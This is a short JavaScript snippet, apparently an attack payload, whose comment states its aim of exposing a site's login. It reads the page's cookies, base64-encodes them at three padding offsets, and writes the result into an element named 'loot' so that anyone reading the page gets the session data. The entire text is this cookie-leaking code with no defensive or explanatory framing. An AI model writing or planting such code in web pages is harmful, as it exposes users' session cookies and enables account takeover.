// Puts the cookies of this site on the page, in base64 at all three alignments,
// so that whoever reads the page reads the login.
const loot = document.getElementById("loot");
loot.textContent = ["", " ", "  "].map((pad) => btoa(pad + document.cookie)).join(" and ");
